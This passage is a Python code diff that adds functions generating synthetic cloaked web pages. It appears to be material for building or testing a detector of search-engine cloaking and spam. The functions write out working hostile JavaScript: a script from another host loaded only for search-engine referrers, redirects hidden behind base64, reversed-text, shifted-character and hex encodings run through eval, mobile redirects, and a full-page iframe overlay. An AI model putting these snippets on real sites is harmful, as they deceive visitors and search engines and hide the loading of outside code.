@@ -168,3 +168,105 @@ def hidden_heading(desk: Desk) -> Draft:
     inner = element("h1", encode(inserted(line)), "text")
     draft.top = element("div", inner, "hidden", attributes=f'style="{style}"')
     return draft
+
+
+def loaded_script(desk: Desk) -> Draft:
+    """For visitors from a search engine alone, another site's script is loaded."""
+    draft = _page(desk, _C.CLOAKING)
+    engines, target = "|".join(desk.draw.sample(_ENGINES, 3)), f"//js.{desk.cheap_host()}/{desk.token(5)}.js"
+    shape = desk.number(0, 2)
+    if shape == 0:
+        code = f"if(/{engines}/.test(document.referrer)){{document.writeln('<script src=\"{target}\"><\\/script>');}}"
+    elif shape == 1:
+        code = (
+            f"var s=document.createElement('script');s.src='{target}';"
+            f"if(document['ref'+'errer'].match(/{engines}/i))document.head.appendChild(s),s.src='{target}';"
+        )
+    else:
+        listed = ",".join(f"'{engine}'" for engine in desk.draw.sample(_ENGINES, 3))
+        code = (
+            f"var e=[{listed}],hit=0;for(var i=0;i<e.length;i++){{if(document.referrer.indexOf(e[i])>=0){{hit=1;break;}}}}"
+            f"if(hit){{var n=document.createElement('script');n.src='{target}';document.body.appendChild(n);}}"
+        )
+    _place_script(desk, draft, code)
+    return draft
+
+
+def deep_codes(desk: Desk) -> Draft:
+    """A redirect under several codes: hand-made decoders, reversed text, shifted letters, code in code."""
+    draft = _page(desk, _C.CLOAKING)
+    code = _redirect(desk)
+    shape = desk.number(0, 4)
+    coded = base64.b64encode(code.encode()).decode()
+    if shape == 0:
+        written = (
+            f"function d(s){{return decodeURIComponent(escape(window.atob(s)))}}eval(d('{coded[:40]}'+'{coded[40:]}'));"
+        )
+    elif shape == 1:
+        turned = code[::-1].replace("\\", "\\\\").replace("'", "\\'")
+        written = f"eval('{turned}'.split('').reverse().join(''));"
+    elif shape == 2:
+        numbers = ",".join(str(ord(character) + 7) for character in code)
+        written = (
+            f"var k=[{numbers}],o='';for(var i=0;i<k.length;i++)o+=String.fromCharCode(k[i]-7);(new Function(o))();"
+        )
+    elif shape == 3:
+        percent = "".join(f"%{ord(character):02X}" for character in f"eval(atob('{coded}'))")
+        written = f"eval(unescape('{percent}'));"
+    else:
+        written = f"var h='{code.encode().hex()}',t='';for(var i=0;i<h.length;i+=2)t+=String.fromCharCode(parseInt(h.substr(i,2),16));eval(t);"
+    _place_script(desk, draft, written)
+    return draft
+
+
+def phone_redirect(desk: Desk) -> Draft:
+    """Phones are sent to somebody else's site."""
+    draft = _page(desk, _C.CLOAKING)
+    draft.action = Action.REVIEW
+    target = f"https://{desk.cheap_host()}/app/"
+    _place_script(
+        desk, draft, f"if(/Android|iPhone|iPad|Mobile/i.test(navigator.userAgent)){{window.location.href='{target}';}}"
+    )
+    return draft
+
+
+def script_redirect(desk: Desk) -> Draft:
+    """Everybody who runs scripts is sent away; the text is for who does not."""
+    draft = _page(desk, _C.CLOAKING)
+    draft.action = Action.REVIEW
+    target = f"http://{desk.cheap_host()}/"
+    code = desk.draw.choice(
+        (
+            f"window.location.replace('{target}');",
+            f"setTimeout(function(){{top.location.href='{target}'}},50);",
+            f"window.onload=function(){{var u='{target[:6]}'+'{target[6:]}';location=u}};",
+        )
+    )
+    _place_script(desk, draft, code)
+    return draft
+
+
+def frame_over_page(desk: Desk) -> Draft:
+    """A frame of another site over the whole text."""
+    draft = _page(desk, _C.CLOAKING)
+    draft.action = Action.REVIEW
+    style = "position:fixed;top:0;left:0;width:100%;height:100%;border:0;z-index:9999"
+    draft.end = element("iframe", "", "hidden", attributes=f'src="//{desk.cheap_host()}/" style="{style}"')
+    return draft
+
+
+def open_graph(desk: Desk) -> Draft:
+    """Cards for sharing that name another page than the one to be seen."""
+    draft = _page(desk, _C.CLOAKING, _C.EXPLICIT)
+    line = encode(_keywords(desk)).replace('"', "")
+    draft.head = f'<meta property="og:title" content="{line}"><meta property="og:description" content="{line}">'
+    return draft
+
+
+def script_title(desk: Desk) -> Draft:
+    """A script that gives the page another title once it runs."""
+    draft = _page(desk, _C.CLOAKING, _C.EXPLICIT)
+    line = _keywords(desk).replace("'", "").replace("\\", "")
+    written = "".join(f"\\u{ord(character):04x}" for character in line) if desk.chance(0.6) else line
+    draft.head = element("script", f"document.title='{written}';", "hidden")
+    return draft
